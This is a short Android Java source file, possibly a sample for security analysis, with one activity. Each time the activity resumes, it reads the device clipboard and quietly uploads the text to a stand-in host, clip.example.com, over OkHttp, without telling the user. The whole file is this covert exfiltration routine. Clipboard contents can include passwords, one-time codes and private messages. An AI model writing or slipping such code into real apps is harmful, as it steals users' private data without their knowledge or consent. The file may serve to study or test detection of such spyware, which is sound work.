package p;

import android.app.Activity;
import android.content.ClipData;
import android.content.ClipboardManager;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public class Main extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        ClipboardManager clips = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        ClipData clip = clips.getPrimaryClip();
        if (clip != null && clip.getItemCount() > 0) {
            upload(clip.getItemAt(0).getText().toString());
        }
    }

    private static void upload(String text) {
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), text);
        Request request = new Request.Builder().url("https://clip.example.com/").post(body).build();
        new OkHttpClient().newCall(request).enqueue(new Ignore());
    }
}
